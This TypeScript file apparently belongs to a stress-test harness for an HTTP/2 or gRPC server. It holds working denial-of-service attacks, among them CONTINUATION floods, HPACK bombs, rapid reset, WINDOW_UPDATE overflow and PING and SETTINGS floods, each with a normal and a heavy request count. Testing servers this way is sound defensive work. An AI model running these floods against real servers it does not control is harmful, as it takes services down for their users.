import { type Attack, connections, overOne, sendAll, sendBatches } from "./attack.ts";
import {
  data,
  flag,
  frame,
  frameType,
  headerBlock,
  headers,
  indexedLiteral,
  newestIndexed,
  ping,
  rstStream,
  settings,
  windowUpdate,
} from "./frames.ts";
import { callHeaders } from "./requests.ts";

// Client streams are odd, and each is higher than those before.
const streamOf = (index: number) => 1 + 2 * index;
const opened = headers(1, callHeaders());

/** A header that is remembered once, and repeated so often in each stream. */
function hpackBombs(repetitions: number): Attack["run"] {
  const remember = indexedLiteral("x-bomb", "b".repeat(3_900));
  const bomb = Buffer.alloc(repetitions, newestIndexed);
  return async (target, count) => {
    const all = await connections(target, Math.ceil(count / 100));
    for (const client of all)
      await sendAll(client, Math.min(100, count), (index) =>
        headers(streamOf(index), Buffer.concat([callHeaders(), index === 0 ? remember : Buffer.alloc(0), bomb])),
      );
    return all;
  };
}

function openedAndReset(call: Buffer): Attack["run"] {
  const piece = (index: number) => Buffer.concat([headers(streamOf(index), call), rstStream(streamOf(index))]);
  return overOne((client, count) => sendBatches(client, count, piece, 20));
}

/** The same pseudo-random bytes in every run. */
function noise(length: number, seed: number): Buffer {
  let state = seed + 1;
  return Buffer.from(
    Array.from({ length }, () => {
      state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
      return state >> 16;
    }),
  );
}

/** HTTP/2 as no library would speak it: RFC 9113's own list is in section 10.5. */
export const attacksOnFrames: readonly Attack[] = [
  {
    name: "noise instead of frames",
    count: 50,
    heavyCount: 1_000,
    async run(target, count) {
      const all = await connections(target, count);
      await Promise.all(all.map((client, index) => client.send(noise(4_096, index))));
      return all;
    },
  },
  {
    name: "frames of random types, flags and streams",
    count: 50,
    heavyCount: 1_000,
    async run(target, count) {
      const all = await connections(target, count);
      await Promise.all(
        all.map((client, index) =>
          sendAll(client, 100, (piece) => {
            const [type = 0, flags = 0, stream = 0, length = 0] = noise(4, index * 100 + piece);
            return frame(type % 12, flags, stream, noise(length, piece));
          }),
        ),
      );
      return all;
    },
  },
  {
    name: "a frame that says it is 16 MiB long",
    count: 50,
    heavyCount: 1_000,
    async run(target, count) {
      const all = await connections(target, count);
      for (const client of all) await client.send(Buffer.from([255, 255, 255, 0, 0, 0, 0, 0, 1, 1, 2, 3]));
      return all;
    },
  },
  {
    name: "headers that never end (CONTINUATION flood), KiB",
    count: 4_096,
    heavyCount: 65_536,
    run: overOne(async (client, count) => {
      await client.send(frame(frameType.headers, 0, 1, callHeaders()));
      const piece = frame(frameType.continuation, 0, 1, headerBlock([["x-flood", "a".repeat(1_000)]]));
      await sendBatches(client, count, () => piece);
    }),
  },
  {
    name: "empty CONTINUATION frames without end",
    count: 20_000,
    heavyCount: 1_000_000,
    run: overOne(async (client, count) => {
      await client.send(frame(frameType.headers, 0, 1, callHeaders()));
      await sendBatches(client, count, () => frame(frameType.continuation, 0, 1), 1_000);
    }),
  },
  {
    name: "streams with 60 KiB of headers each",
    count: 100,
    heavyCount: 10_000,
    async run(target, count) {
      const all = await connections(target, Math.ceil(count / 100));
      const block = callHeaders(undefined, [["x-large", "a".repeat(15_000)]]);
      const more = headerBlock(["a", "b", "c"].map((name) => [`x-large-${name}`, name.repeat(15_000)] as const));
      for (const client of all)
        await sendAll(client, Math.min(100, count), (index) =>
          Buffer.concat([
            frame(frameType.headers, 0, streamOf(index), block),
            ...[0, 16_384, 32_768].map((from, part) =>
              frame(
                frameType.continuation,
                part === 2 ? flag.endHeaders : 0,
                streamOf(index),
                more.subarray(from, from + 16_384),
              ),
            ),
          ]),
        );
      return all;
    },
  },
  {
    name: "streams with 10,000 headers each",
    count: 20,
    heavyCount: 1_000,
    async run(target, count) {
      const all = await connections(target, Math.ceil(count / 100));
      const block = headerBlock(Array.from({ length: 10_000 }, () => ["a", "b"] as const));
      for (const client of all)
        await sendAll(client, Math.min(100, count), (index) => {
          const parts = Array.from({ length: Math.ceil(block.length / 16_384) }, (_, part) =>
            frame(frameType.continuation, 0, streamOf(index), block.subarray(part * 16_384, (part + 1) * 16_384)),
          );
          const end = frame(frameType.continuation, flag.endHeaders, streamOf(index));
          return Buffer.concat([frame(frameType.headers, 0, streamOf(index), callHeaders()), ...parts, end]);
        });
      return all;
    },
  },
  {
    name: "a 4 KiB header that is repeated a byte each time (HPACK bomb)",
    count: 100,
    heavyCount: 5_000,
    run: hpackBombs(10_000),
  },
  {
    name: "the same, with as many repetitions as are taken (15 a stream)",
    count: 500,
    heavyCount: 10_000,
    run: hpackBombs(15),
  },
  {
    name: "streams opened and reset at once (rapid reset)",
    count: 10_000,
    heavyCount: 100_000,
    run: openedAndReset(callHeaders()),
  },
  {
    name: "the same for a method that does not exist",
    count: 10_000,
    heavyCount: 100_000,
    run: openedAndReset(callHeaders("/no.such.Service/Method")),
  },
  {
    name: "windows opened beyond 2 GiB (WINDOW_UPDATE overflow)",
    count: 200,
    heavyCount: 1_500,
    async run(target, count) {
      const all = await connections(target, count);
      for (const client of all)
        await client.send(Buffer.concat([opened, windowUpdate(1, 0x7fff_ffff), windowUpdate(0, 0x7fff_ffff)]));
      return all;
    },
  },
  {
    name: "PINGs without end",
    count: 50_000,
    heavyCount: 1_000_000,
    run: overOne(async (client, count) => {
      await sendBatches(client, count, () => ping, 1_000);
    }),
  },
  {
    name: "PINGs without end, whose answers are not read",
    count: 200_000,
    heavyCount: 2_000_000,
    run: overOne(async (client, count) => {
      client.socket.pause();
      await inTime(sendBatches(client, count, () => ping, 1_000));
    }),
  },
  {
    name: "SETTINGS without end",
    count: 20_000,
    heavyCount: 500_000,
    run: overOne(async (client, count) => {
      await sendBatches(client, count, (index) => settings({ 4: 65_535 + (index % 2) }), 1_000);
    }),
  },
  {
    name: "empty DATA frames without end",
    count: 50_000,
    heavyCount: 1_000_000,
    run: overOne(async (client, count) => {
      await client.send(opened);
      await sendBatches(client, count, () => data(1, Buffer.alloc(0)), 1_000);
    }),
  },
  {
    name: "calls to methods that do not exist",
    count: 2_000,
    heavyCount: 50_000,
    run: overOne(async (client, count) => {
      await sendBatches(
        client,
        count,
        (index) => headers(streamOf(index), callHeaders(`/no.such.Service/é${index}`), { end: true }),
        20,
      );
    }),
  },
];

/** Who does not read makes the server stop reading, and then cannot send any more. */
async function inTime(sending: Promise<void>): Promise<void> {
  const enough = new Promise<void>((resolve) => setTimeout(resolve, 2_000));
  await Promise.race([sending, enough]);
}
